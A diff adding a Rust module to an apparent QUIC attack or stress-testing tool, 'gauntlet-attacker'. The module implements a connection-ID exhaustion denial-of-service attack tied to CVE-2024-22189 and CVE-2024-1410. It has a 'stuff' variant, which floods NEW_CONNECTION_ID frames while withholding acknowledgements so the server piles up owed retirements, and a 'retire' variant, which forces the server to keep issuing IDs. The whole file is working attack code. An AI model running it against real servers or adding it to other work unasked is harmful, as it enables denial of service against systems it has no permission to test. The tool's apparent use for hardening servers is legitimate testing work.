@@ -1,0 +1,97 @@
+//! Connection IDs that the other end has to keep account of (RFC 9000, section 5.1; CVE-2024-22189, CVE-2024-1410).
+
+use std::io::Write;
+
+use clap::{Args, ValueEnum};
+
+use super::feed::{self, Load};
+use crate::caps::Held;
+use crate::context::{Common, Context, Protocol, SetupError};
+use crate::outcome::Outcome;
+use crate::quic::{Acks, QuicSession};
+use crate::quic_wire::transport_parameters::Stated;
+use crate::quic_wire::{ConnectionId, frame};
+
+/// Connection IDs issued and retired at a rate
+///
+/// Stuffing: a start is a NEW_CONNECTION_ID frame that asks for all older ones back. The server owes a
+/// RETIRE_CONNECTION_ID for each, and none of its packets is acknowledged, so that it has to keep what it owes.
+/// A server that bounds this closes the connection.
+///
+/// Retiring: a start gives back (RETIRE_CONNECTION_ID) an ID that the server offered, so that it has to offer another;
+/// without one a start is blocked.
+#[derive(Args, Clone, Debug)]
+#[command(after_long_help = "Examples:
+  gauntlet-attacker cid-exhaustion --target 127.0.0.1:4433 --variant stuff --rate 5000
+  gauntlet-attacker cid-exhaustion --target 127.0.0.1:4433 --variant retire --rate 5000")]
+pub struct CidExhaustion {
+    #[command(flatten)]
+    common: Common,
+    /// Whose IDs
+    #[arg(long, value_enum, default_value = "stuff")]
+    variant: Variant,
+    /// Connections that starts are made on in turn
+    #[arg(long, default_value = "1", value_name = "COUNT")]
+    connections: Held,
+}
+
+/// Whose IDs are exhausted.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
+enum Variant {
+    /// This end's: issued faster than their retirement is acknowledged.
+    Stuff,
+    /// The server's: given back as fast as they come.
+    Retire,
+}
+
+impl CidExhaustion {
+    /// Runs it.
+    ///
+    /// # Errors
+    /// If it cannot begin, or a line cannot be written.
+    pub async fn run(&self, out: &mut dyn Write) -> Result<(), SetupError> {
+        let context = Context::new(&self.common, &[Protocol::H3])?;
+        feed::run::<Ids>(&context, self.connections.count(), self.variant, out).await
+    }
+}
+
+struct Ids {
+    session: QuicSession,
+    /// Sequence number of the newest ID of this end.
+    issued: u64,
+}
+
+impl Load for Ids {
+    type Options = Variant;
+
+    async fn open(context: &Context, variant: &Variant) -> Result<Self, Outcome> {
+        let stated = Stated { active_connection_id_limit: 8, ..Stated::default() };
+        let mut session = feed::open_quic(context, &stated).await?;
+        if *variant == Variant::Stuff {
+            session.client.acks = Acks::Withheld;
+        }
+        Ok(Self { session, issued: 0 })
+    }
+
+    fn start(&mut self, context: &Context, variant: &Variant) -> Result<(), Outcome> {
+        let client = &mut self.session.client;
+        let mut frames = Vec::with_capacity(32);
+        match variant {
+            Variant::Stuff => {
+                self.issued += 1;
+                let id = ConnectionId::of(context.random());
+                frame::new_connection_id(&mut frames, self.issued, self.issued, &id, &context.random());
+            }
+            Variant::Retire => {
+                let sequence = client.take_spare_id().ok_or(Outcome::Blocked)?;
+                frame::retire_connection_id(&mut frames, sequence);
+            }
+        }
+        client.send_frames(frames, true);
+        Ok(())
+    }
+
+    async fn turn(&mut self) -> Result<(), Outcome> {
+        feed::turn_quic(&mut self.session).await
+    }
+}
